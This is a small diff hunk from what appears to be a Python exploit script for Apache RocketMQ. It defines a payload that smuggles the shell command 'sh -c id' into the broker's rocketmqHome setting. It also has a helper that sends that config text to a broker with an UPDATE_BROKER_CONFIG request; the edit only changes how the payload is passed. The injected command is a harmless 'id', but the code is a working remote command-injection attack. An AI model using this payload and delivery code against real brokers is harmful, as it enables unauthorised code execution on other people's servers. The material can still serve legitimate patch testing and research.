@@ -21,7 +21,7 @@ EXPLOIT = "filterServerNums=1\nrocketmqHome=-c sh -c id"
 
 
 async def change(talk: Talk, text: str) -> tuple[int, str]:
-    answer = await talk.ask(RequestCode.UPDATE_BROKER_CONFIG, text.encode())
+    answer = await talk.ask(RequestCode.UPDATE_BROKER_CONFIG, body=text.encode())
     return answer.code, answer.remark or ""
 
 
